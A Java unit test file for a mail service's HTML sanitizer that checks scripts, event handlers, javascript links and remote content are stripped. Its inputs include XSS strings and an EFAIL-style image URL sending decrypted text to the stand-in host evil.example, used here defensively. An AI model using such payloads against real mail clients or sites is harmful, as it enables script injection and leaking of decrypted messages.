package io.guardcluster.mailservice.read;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class SafeHtmlTest {

    @Test
    void formattingTablesAndLinksStay() {
        String html = "<p>Hallo <b>Bob</b>, <i>hier</i> die <a href=\"https://example.com/bericht\">Tabelle</a>:</p>"
                + "<table><tr><td colspan=\"2\">17</td></tr></table><ul><li>eins</li></ul>";
        SafeHtml.Result safe = SafeHtml.of(html);
        assertThat(safe.changed()).isFalse();
        assertThat(safe.html()).contains("<b>Bob</b>", "<i>hier</i>", "<td colspan=\"2\">17</td>", "<li>eins</li>",
                "href=\"https://example.com/bericht\"", "rel=\"noopener noreferrer nofollow\"");
    }

    @Test
    void scriptsHandlersAndJavascriptLinksGo() {
        SafeHtml.Result safe = SafeHtml.of("<p onclick=\"steal()\">Text</p><script>steal()</script>"
                + "<a href=\"javascript:steal()\">klick</a><img src=\"cid:logo\" onerror=\"steal()\">"
                + "<svg><script>steal()</script></svg>");
        assertThat(safe.changed()).isTrue();
        assertThat(safe.html()).doesNotContain("steal", "script", "javascript", "onclick", "onerror")
                .contains("<p>Text</p>", "klick");
    }

    /** EFAIL's direct exfiltration: decrypted text inside a remote image's URL; remote content of any kind. */
    @Test
    void nothingIsLoadedFromTheNetwork() {
        SafeHtml.Result safe = SafeHtml.of("<html><head><style>body{background:url(https://evil.example/bg)}</style>"
                + "<link rel=\"stylesheet\" href=\"https://evil.example/css\"></head><body>"
                + "<img src=\"http://evil.example/exfil?DECRYPTED-SECRET\">"
                + "<img src=\"https://evil.example/pixel.gif\" width=\"1\">"
                + "<div style=\"background-image:url(https://evil.example/x)\">Inhalt</div>"
                + "<iframe src=\"https://evil.example/frame\"></iframe><object data=\"https://evil.example/o\"></object>"
                + "<form action=\"https://evil.example/phish\"><input name=\"password\"></form>"
                + "<video src=\"https://evil.example/v\"></video><base href=\"https://evil.example/\">"
                + "</body></html>");
        assertThat(safe.changed()).isTrue();
        assertThat(safe.html()).doesNotContain("evil.example", "DECRYPTED-SECRET", "style", "iframe", "form", "input")
                .contains("Inhalt");
    }

    @Test
    void theMailsOwnImagesStay() {
        SafeHtml.Result safe = SafeHtml.of("<img src=\"cid:logo@example\" alt=\"Logo\">"
                + "<img src=\"data:image/png;base64,iVBORw0KGgo=\">");
        assertThat(safe.html()).contains("src=\"cid:logo@example\"", "alt=\"Logo\"", "src=\"data:image/png;base64,iVBORw0KGgo=\"");
        assertThat(safe.changed()).isFalse();
    }

    @Test
    void nullStaysNull() {
        assertThat(SafeHtml.of(null)).isNull();
    }
}
